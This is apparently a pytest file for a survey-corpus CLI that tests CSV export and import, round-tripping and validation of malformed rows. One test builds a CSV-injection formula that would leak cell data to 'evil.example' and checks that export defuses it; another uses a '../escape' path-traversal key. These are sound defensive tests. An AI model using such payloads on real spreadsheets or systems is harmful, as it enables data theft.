"""Import from and export to the survey's CSV layout."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

from click.testing import CliRunner

from survey_tools.cli import cli

SENTENCES = {"papers.csv": {"one_liner", "notes"}, "excluded.csv": {"exclusion_reason"}}
KEYS = {"papers.csv": "key", "excluded.csv": "record_id"}


def _rows(path: Path, key: str) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return {r[key]: r for r in csv.DictReader(fh)}


def test_export_reproduces_the_survey_csvs(frozen_survey: Path, artifact: Path, tmp_path: Path) -> None:
    # The survey's edition, whatever the living list has gained since.
    args = ["--root", str(frozen_survey), "export", "csv", str(tmp_path), "--edition", "2605.02801v1"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    for name, key in KEYS.items():
        theirs = _rows(artifact / name, key)
        ours = _rows(tmp_path / name, key)
        assert list(ours) == sorted(theirs)
        with (artifact / name).open(encoding="utf-8") as fh:
            header = next(csv.reader(fh))
        with (tmp_path / name).open(encoding="utf-8") as fh:
            assert next(csv.reader(fh)) == header
        for k, row in theirs.items():
            for col, value in row.items():
                if col not in SENTENCES[name]:
                    assert ours[k][col] == value, (name, k, col)


def test_import_then_validate_and_round_trip(
    survey_dir: Path, artifact: Path, tmp_path: Path
) -> None:
    runner = CliRunner()
    args = [
        "--root",
        str(survey_dir),
        "import",
        "csv",
        str(artifact / "papers.csv"),
        str(artifact / "excluded.csv"),
    ]
    result = runner.invoke(cli, [*args, "--bib", str(artifact / "papers.bib")])
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "wrote 116 records"
    assert len(list((survey_dir / "corpus").glob("*.yaml"))) == 84
    # Imported exclusions have no reason code yet: validation must say so, not pass silently.
    report = runner.invoke(cli, ["--root", str(survey_dir), "validate"])
    assert report.exit_code == 1
    assert report.stdout.count("reason: not yet tagged") == 32
    out = tmp_path / "out"
    # The export does not require a valid corpus for the round trip of facts.
    exported = runner.invoke(cli, ["--root", str(survey_dir), "export", "csv", str(out)])
    assert exported.exit_code == 1  # invalid records are refused
    magrpo = (survey_dir / "corpus/magrpo.yaml").read_text()
    assert "- Amato, Christopher" in magrpo and "authors_complete: false" in magrpo
    assert "\nedition: 2605.02801v1\n" in magrpo  # the CSVs are the survey's edition
    second = runner.invoke(cli, args)
    assert "kept 116 existing" in second.output


def test_import_bad_rows_writes_nothing(survey_dir: Path, artifact: Path, tmp_path: Path) -> None:
    lines = (artifact / "papers.csv").read_text(encoding="utf-8").splitlines()
    bad = tmp_path / "papers.csv"
    lines[3] = lines[3] + ",extra"
    lines[5] = "../escape" + lines[5][lines[5].index(",") :]
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["--root", str(survey_dir), "import", "csv", str(bad)])
    assert result.exit_code == 1
    assert "papers.csv:4: row has 19 columns, expected 18" in result.stderr
    assert "papers.csv:6: key: '../escape' is not a valid key" in result.stderr
    assert list((survey_dir / "corpus").iterdir()) == []


def test_import_missing_columns(survey_dir: Path, tmp_path: Path) -> None:
    bad = tmp_path / "papers.csv"
    bad.write_text("key,title\nx,y\n")
    result = CliRunner().invoke(cli, ["--root", str(survey_dir), "import", "csv", str(bad)])
    assert result.exit_code == 1
    assert "papers.csv:1: missing columns: first_author" in result.stderr


def test_formula_like_titles_cannot_run_in_a_spreadsheet_and_round_trip(
    corpus_copy: Path, tmp_path: Path
) -> None:
    import pandas as pd

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    rec = corpus_copy / "corpus" / "c3.yaml"
    text = rec.read_text(encoding="utf-8")
    original = next(ln for ln in text.splitlines() if ln.startswith("title:"))
    rec.write_text(text.replace(original, "title: '" + formula.replace("'", "''") + "'"), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["--root", str(corpus_copy), "export", "csv", str(out)])
    assert result.exit_code == 0, result.output
    rows = _rows(out / "papers.csv", "key")
    assert rows["c3"]["title"] == "'" + formula  # a spreadsheet shows it as text
    frame = pd.read_csv(out / "papers.csv", dtype=str, keep_default_na=False)
    assert not frame["title"].str.match(r"^[=+@\t\r-]").any()
    # Our own import reads the quoted cell back as the title that was written.
    fresh = tmp_path / "fresh"
    shutil.copytree(corpus_copy / "taxonomy", fresh / "taxonomy")
    args = ["--root", str(fresh), "import", "csv", str(out / "papers.csv"), str(out / "excluded.csv")]
    imported = CliRunner().invoke(cli, args)
    assert imported.exit_code == 0, imported.output
    import yaml

    assert yaml.safe_load((fresh / "corpus" / "c3.yaml").read_text(encoding="utf-8"))["title"] == formula
